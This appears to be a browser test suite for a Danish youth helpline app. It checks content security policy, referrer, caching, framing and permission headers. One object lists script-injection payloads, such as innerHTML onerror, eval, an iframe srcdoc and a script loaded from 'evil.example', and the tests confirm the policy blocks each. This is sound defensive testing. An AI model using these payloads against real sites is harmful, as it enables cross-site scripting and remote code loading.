import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import type { Browser, Page, Request } from 'playwright-core'
import { desk, openBrowser, person, phone } from './browser.ts'
import { say, signIn, startConversation } from './people.ts'
import { startWorld, type World } from './world.ts'

/** What a real browser makes of our headers: every request of both apps is written down, and every violation that the page itself is told of. */
let world: World
let browser: Browser
before(async () => { [world, browser] = await Promise.all([startWorld(), openBrowser({ whole: true })]) })
after(async () => {
  await browser?.close()
  await world?.stop()
})

/** A person whose page notes what its policy stopped; every message of the console is kept, too. */
async function watched(size: typeof phone) {
  const someone = await person(browser, world.url, size)
  const [requests, said, violations]: [Request[], string[], string[]] = [[], [], []]
  await someone.context.exposeFunction('violated', (one: string) => void violations.push(one))
  await someone.context.addInitScript(`addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) => window.violated(effectiveDirective + ' ' + blockedURI + ' ' + sample))`)
  someone.context.on('request', (request) => requests.push(request))
  someone.page.on('console', (message) => { if (['error', 'warning'].includes(message.type())) said.push(`${message.text()} (${message.location().url})`) })
  someone.page.on('websocket', (socket) => said.push(...(new URL(socket.url()).host === new URL(world.url).host ? [] : [`a socket to ${socket.url()}`])))
  return { ...someone, requests, said, violations }
}
type Watched = Awaited<ReturnType<typeof watched>>

async function mustHaveKeptToItself({ requests, said, violations, strangers, faults }: Watched): Promise<void> {
  assert.deepEqual({ said, violations, strangers, faults }, { said: [], violations: [], strangers: [], faults: [] })
  assert.ok(requests.length > 8, String(requests.length))
  for (const request of requests) {
    const url = new URL(request.url())
    if (url.protocol === 'blob:' || url.protocol === 'data:') continue
    assert.equal(url.origin, world.url)
    assert.equal((await request.allHeaders()).referer ?? '', '', `${url.pathname} was told where somebody came from`)
    const answer = await request.response()
    if (url.pathname.startsWith('/api/') && answer) assert.equal((await answer.allHeaders())['cache-control'], 'no-store', url.pathname)
  }
}
/** What an attacker's script would do first; none of it may work. */
const attacks: Readonly<Record<string, string>> = {
  'HTML from a text': `document.body.innerHTML = '<img src=x onerror=window.ran=1>'`,
  'a frame’s text': `document.body.appendChild(document.createElement('iframe')).srcdoc = '<script>parent.ran=1</script>'`,
  'a script’s text': `{ const s = document.createElement('script'); s.text = 'window.ran=1'; document.body.append(s) }`,
  'a script of somebody else’s': `{ const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s) }`,
  'eval': `window['ev' + 'al']('window.ran=1')`,
  'a function from a text': `new Function('window.ran=1')()`,
  'a timer with a text': `setTimeout('window.ran=1', 0)`,
  'a policy of its own': `trustedTypes.createPolicy('default', { createHTML: (x) => x, createScript: (x) => x })`,
  'an inline handler': `document.body.setAttribute('onclick', 'window.ran=1'); document.body.click()`,
}
async function mustStopAttacks({ page, violations }: Watched): Promise<void> {
  for (const [name, attack] of Object.entries(attacks)) {
    const before = violations.length
    // In a turn of the page's own: what the debugger evaluates itself may use eval whatever the page's policy says.
    await page.evaluate(`new Promise((settle) => setTimeout(() => { try { ${attack} } catch {} ; requestAnimationFrame(() => setTimeout(settle, 0)) }, 0))`)
    assert.equal(await page.evaluate('window.ran'), undefined, name)
    await until(() => violations.length > before, name)
  }
}
async function until(true_: () => boolean, what: string): Promise<void> {
  for (let times = 0; times < 200 && !true_(); times += 1) await new Promise((settle) => { setTimeout(settle, 10) })
  assert.ok(true_(), `no violation was reported: ${what}`)
}

test('P42 the citizen’s app asks nobody else for anything, and breaks none of its own rules', async () => {
  const citizen = await watched(phone)
  await startConversation(citizen.page, world)
  await say(citizen.page, 'hej')
  await citizen.page.locator('.bubble.mine').getByText('hej').waitFor()
  await citizen.page.goto(`${world.url}/ungelinjen/mine-data`)
  await citizen.page.getByText('Det, du har sagt ja til').first().waitFor()
  await mustHaveKeptToItself(citizen)
  await mustStopAttacks(citizen)
  await citizen.context.close()
})

test('P42 the workplace asks nobody else for anything, and breaks none of its own rules', async () => {
  const anna = await watched(desk)
  await signIn(anna.page, world, 'anna')
  await anna.page.getByText('Venter').first().waitFor()
  await mustHaveKeptToItself(anna)
  await mustStopAttacks(anna)
  await anna.context.close()
})

test('P42 a page cannot be framed, not even by our own, and what it is not allowed it does not get', async () => {
  const { page, context } = await watched(phone)
  await page.goto(`${world.url}/ungelinjen`)
  const features = await page.evaluate(`['camera', 'microphone', 'geolocation', 'usb', 'publickey-credentials-get', 'clipboard-write'].filter((one) => document.featurePolicy.allowsFeature(one))`)
  assert.deepEqual(features, ['clipboard-write'])
  assert.equal(await page.evaluate('crossOriginIsolated || window.opener !== null'), false)
  await frameless(page)
  await context.close()
})

async function frameless(page: Page): Promise<void> {
  await page.route('**/framing', (route) => route.fulfill({ contentType: 'text/html', body: `<iframe src="${world.url}/ungelinjen"></iframe>` }))
  await page.goto(`${world.url}/framing`)
  await page.waitForFunction('document.querySelector("iframe") !== null')
  const inside = page.frames().find((frame) => frame !== page.mainFrame())!
  await inside.waitForLoadState()
  assert.equal(await inside.locator('button').count(), 0)
}
